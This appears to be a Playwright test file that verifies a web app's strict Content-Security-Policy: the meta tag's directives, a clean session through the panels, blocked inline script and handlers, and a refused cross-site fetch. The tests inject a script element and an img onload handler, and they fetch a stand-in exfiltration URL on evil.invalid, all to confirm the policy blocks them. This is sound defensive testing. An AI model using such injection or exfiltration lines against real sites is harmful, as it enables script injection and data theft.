import { expect, test } from './test'
import { curated } from './dataset'
import { results } from './locators'
import { watchPage } from './trust-watch'

const TOTAL = curated.events.length

test('the built page carries a strict Content-Security-Policy and no inline script or style', async ({ request }) => {
  const html = await (await request.get('/')).text()
  const policy = /<meta http-equiv="Content-Security-Policy" content="([^"]+)"/.exec(html)?.[1]
  expect(policy, 'CSP meta tag').toBeDefined()
  const directives = new Map(policy!.split(';').map((d) => d.trim().split(/\s+/)).map(([name, ...values]) => [name!, values]))
  expect(directives.get('default-src')).toEqual(["'self'"])
  expect(directives.get('script-src')).toEqual(["'self'"])
  expect(directives.get('style-src')).toEqual(["'self'"])
  // https: so that a reader can open a dataset from a URL (?data=); nothing is fetched unless they do.
  expect(directives.get('connect-src')).toEqual(["'self'", 'https:'])
  expect(directives.get('object-src')).toEqual(["'none'"])
  expect(policy).not.toMatch(/unsafe-(eval|inline)|\*|http:/)
  // The meta must come before any script or stylesheet, or those would load unpoliced.
  expect(html.indexOf('Content-Security-Policy')).toBeLessThan(html.search(/<script|<link rel="stylesheet"/))
  expect(html).not.toMatch(/<script(?![^>]*\bsrc=)[^>]*>/)
  expect(html).not.toMatch(/\sstyle="/)
})

test('a session through every panel raises no CSP violation and requests nothing from elsewhere', async ({ page, app, baseURL }) => {
  const watch = await watchPage(page, baseURL!)
  await page.goto('/')
  await expect(results(page)).toHaveText(`${TOTAL} of ${TOTAL} events`)
  await app.timelineEvents.first().click()
  await expect(page.getByRole('complementary').getByRole('heading', { level: 2 })).toBeVisible()
  await page.getByRole('button', { name: 'Zoom in' }).click()
  await page.getByRole('button', { name: 'List' }).click()
  await expect(page.getByRole('table')).toBeVisible()
  await page.goto('/?embed=1')
  await expect(app.timelineEvents.first()).toBeVisible({ timeout: 15_000 })
  await watch.expectClean()
})

test('the policy is enforced: injected inline script and handlers do not run, and are reported', async ({ page }) => {
  await page.goto('/')
  await page.evaluate(() => {
    const seen: string[] = []
    Object.assign(window, { __violations: seen })
    document.addEventListener('securitypolicyviolation', (e) => seen.push(e.violatedDirective))
    const script = document.createElement('script')
    script.textContent = 'window.__inlineRan = true'
    document.body.append(script)
    const holder = document.createElement('div')
    holder.innerHTML = '<img src="/favicon.svg" onload="window.__handlerRan = true">'
    document.body.append(holder)
  })
  // Both attempts are reported: the inline script, then the handler once the image has loaded.
  await expect
    .poll(() => page.evaluate(() => (window as unknown as { __violations: string[] }).__violations.length))
    .toBeGreaterThanOrEqual(2)
  await expect(page.locator('img[src="/favicon.svg"]')).toHaveJSProperty('complete', true)
  expect(await page.evaluate(() => '__inlineRan' in window || '__handlerRan' in window)).toBe(false)
})

test('a plain-http request to another site is refused by the page itself', async ({ page, baseURL }) => {
  const watch = await watchPage(page, baseURL!)
  await page.goto('/')
  const outcome = await page.evaluate(() =>
    fetch('http://evil.invalid/exfiltrate.json').then(
      () => 'fetched',
      (error: unknown) => (error instanceof TypeError ? 'refused' : 'other'),
    ),
  )
  expect(outcome).toBe('refused')
  await expect.poll(() => watch.cspViolations()).toEqual([expect.stringMatching(/^connect-src http:\/\/evil\.invalid\/exfiltrate\.json/)])
  expect(watch.foreignRequests()).toEqual([])
})
